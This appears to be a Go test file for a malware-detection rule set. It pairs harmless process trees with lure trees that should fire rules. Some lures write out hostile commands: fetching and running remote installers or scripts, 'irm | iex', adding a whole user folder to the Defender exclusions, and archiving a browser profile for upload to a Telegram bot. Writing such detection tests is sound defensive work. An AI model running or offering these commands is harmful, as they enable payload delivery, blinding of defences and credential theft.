package detect_test

import (
	"strings"
	"testing"
)

// What honest programs do that a rule could take for a lure, beside the lure that
// it is for.
func TestWhoElseWouldFire(t *testing.T) {
	const home = `C:\Users\ana`
	for _, tc := range []struct{ name, system, honest, lure, rule string }{
		{"parts of Windows in a bottle", "linux",
			`|/home/ana/.wine/drive_c/windows/system32/services.exe|`,
			`|/home/ana/.cache/x/dbus-daemon|`, "MG-PROC-SYSTEM-NAME"},
		{"the system of a container", "linux",
			`|/var/tmp/root/usr/lib/systemd/systemd-journald|`,
			`|/var/tmp/root/systemd-journald|`, "MG-PROC-SYSTEM-NAME"},
		{"a part of another system", "darwin",
			`|/Users/ana/.cargo/bin/explorer|`,
			`|/Users/ana/.cargo/bin/loginwindow|`, "MG-PROC-SYSTEM-NAME"},
		{"a table for one's own folder", "darwin",
			`|/System/Applications/Utilities/Script Editor.app/Contents/MacOS/Script Editor|
			>|/usr/bin/curl|-s -o /Users/ana/Documents/rates.csv https://rates.kursblatt.invalid/today`,
			`|/System/Applications/Utilities/Script Editor.app/Contents/MacOS/Script Editor|
			>|/usr/bin/curl|-s -o /tmp/rates.scpt https://rates.kursblatt.invalid/today`, "MG-PROC-SCRIPT-EDITOR"},
		{"Java of a setup", "linux",
			`|/bin/sh|/home/ana/Downloads/setup.bin
			>|/usr/bin/tar|xzf /home/ana/Downloads/p.tgz -C /tmp/inst.1
			>|/tmp/inst.1/jre/bin/java|-jar /tmp/inst.1/setup.jar`,
			`|/bin/sh|/home/ana/Downloads/setup.bin
			>|/usr/bin/tar|xzf /home/ana/Downloads/p.tgz -C /tmp/inst.1
			>|/tmp/inst.1/bin/node|/tmp/inst.1/setup.js`, "MG-PROC-PORTABLE"},
		{"waiting for a data base", "linux",
			`|/home/ana/src/kite/.venv/bin/python|-c "import socket; socket.create_connection(('db.kite.invalid', 5432))"`,
			`|/tmp/py/bin/python|-c "import socket; socket.create_connection(('db.kite.invalid', 5432))"`, "MG-PROC-INLINE"},
		{"an app that bears its host's name", "darwin",
			`|/bin/bash|/Users/ana/bin/update.sh
			>|/usr/bin/curl|-o /tmp/t.dmg https://dl.tidewriter.invalid/t.dmg
			>|/bin/rm|-rf /Applications/TideWriter.app
			>|/usr/bin/codesign|--force --deep --sign - /Applications/TideWriter.app`,
			`|/bin/bash|/Users/ana/bin/update.sh
			>|/usr/bin/curl|-o /tmp/t.dmg https://dl.other.invalid/t.dmg
			>|/bin/rm|-rf /Applications/TideWriter.app
			>|/usr/bin/codesign|--force --deep --sign - /Applications/TideWriter.app`, "MG-PROC-REPLACED"},
		{"a script of one's own on the desktop", "windows",
			`|C:\Windows\explorer.exe|
			>|C:\Windows\System32\wscript.exe|` + home + `\Desktop\backup.vbs
			>>|C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe|-File D:\scripts\backup.ps1`,
			`|C:\Windows\explorer.exe|
			>|C:\Windows\System32\wscript.exe|` + home + `\Desktop\backup.vbs
			>>|C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe|-File ` + home + `\AppData\Local\Temp\b.ps1`, "MG-PROC-HOST-CHILD"},
		{"a script of the school's page", "windows",
			`|C:\Program Files\Mozilla Firefox\firefox.exe|
			>|C:\Windows\System32\wscript.exe|` + home + `\Downloads\Laufwerke.vbs`,
			`|C:\Program Files\Mozilla Firefox\firefox.exe|
			>|C:\Windows\System32\wscript.exe|` + home + `\Downloads\camera-fix.vbs`, "MG-PROC-DOOR-HOST"},
		{"a package in a temporary folder", "windows",
			`|C:\Windows\explorer.exe|
			>|C:\Windows\System32\cmd.exe|
			>>|C:\Windows\System32\curl.exe|-o C:\Windows\Temp\agent.msi https://dl.flottenwart.invalid/agent.msi
			>>|C:\Windows\System32\msiexec.exe|/i C:\Windows\Temp\agent.msi /qn`,
			`|C:\Windows\explorer.exe|
			>|C:\Windows\System32\conhost.exe|--headless msiexec /q /i http://3405803781/z
			>>|C:\Windows\System32\msiexec.exe|/q /i http://3405803781/z`, "MG-PROC-FETCH-ADDRESS"},
		{"the app that its name promises", "darwin",
			`|/Applications/RustDesk.app/Contents/MacOS/RustDesk|`,
			`|/Applications/ZoomSupport.app/Contents/MacOS/RustDesk|?`, "MG-PROC-BRAND-LOADER"},
		{"a launch agent of one's own", "darwin",
			`|/bin/bash|/var/db/setup.sh
			>|/bin/cp|/var/db/a.plist /Users/ana/Library/LaunchAgents/me.ana.sync.plist`,
			`|/bin/bash|/var/db/setup.sh
			>|/bin/cp|/var/db/a.plist /Users/ana/Library/LaunchAgents/com.zoom.plist`, "MG-PROC-TEMP-AGENT"},
		{"an address of an overlay network", "linux",
			`|/bin/bash|-c "curl -fsSL http://100.64.0.5:8080/up.sh -o /tmp/up.sh"
			>|/bin/bash|/tmp/up.sh`,
			`|/usr/bin/curl|-fsSL http://203.0.113.5:8080/up.sh -o /tmp/up.sh
			|/bin/bash|/tmp/up.sh`, "MG-PROC-FETCH-ADDRESS"},
		{"a service that a maker of browsers has built", "darwin",
			`|/Users/ana/Library/Caches/ms-playwright/webkit-1/W.framework/Versions/A/XPCServices/com.apple.WebKit.GPU.xpc/Contents/MacOS/com.apple.WebKit.GPU|`,
			`|/Users/ana/Library/Caches/ms-playwright/com.apple.WebKit.GPU|`, "MG-PROC-SYSTEM-NAME"},
		{"what a compiler has made", "windows",
			`|C:\Program Files\Go\bin\go.exe|run ./cmd/explorer
			>|` + home + `\AppData\Local\Temp\go-build1\b001\exe\explorer.exe|`,
			`|C:\Windows\System32\cmd.exe|
			>|` + home + `\AppData\Local\Temp\go-build1\b001\exe\explorer.exe|`, "MG-PROC-SYSTEM-NAME"},
		{"a setup that spares its own folder", "windows",
			`|` + home + `\Downloads\PraxisSetup.exe|
			>|C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe|-Command Add-MpPreference -ExclusionPath 'C:\Program Files\Praxis'`,
			`|` + home + `\Downloads\PraxisSetup.exe|
			>|C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe|-Command Add-MpPreference -ExclusionPath 'C:\Program Files\Praxis','C:\Users'`, "MG-PROC-BLIND"},
		{"what a backup leaves out", "linux",
			`|/bin/bash|/home/ana/bin/save.sh
			>|/usr/bin/tar|--exclude=.mozilla/firefox --exclude .config/google-chrome -czf /tmp/h.tgz /home/ana/Documents`,
			`|/bin/bash|/home/ana/bin/save.sh
			>|/usr/bin/tar|--exclude=.cache -czf /tmp/h.tgz /home/ana/.mozilla/firefox`, "MG-PROC-SECRET"},
		{"a bot that its owner has compiled", "linux",
			`|/home/ana/go/bin/birdcam|
			>|/usr/bin/curl|-F photo=@/tmp/b.jpg https://api.telegram.org/bot1:A/sendPhoto`,
			`|/home/ana/.cache/x/birdcam|
			>|/usr/bin/curl|-F document=@/tmp/b.zip https://api.telegram.org/bot1:A/sendDocument`, "MG-PROC-REPORTED"},
		{"a firm", "windows",
			`|C:\Windows\explorer.exe|
			>|C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe|-WindowStyle Hidden -File "D:\Law firm backup.ps1"`,
			`|C:\Windows\explorer.exe|
			>|C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe|-WindowStyle Hidden -Command "irm https://rates.kursblatt.invalid | iex"`, "MG-PROC-RUN-BOX"},
	} {
		if got := play(t, tc.system, tc.honest); got != "" {
			t.Errorf("%s: fired %s", tc.name, got)
		}
		if got := play(t, tc.system, tc.lure); !strings.Contains(got, tc.rule) {
			t.Errorf("%s: the lure fired %q, want %s", tc.name, got, tc.rule)
		}
	}
}
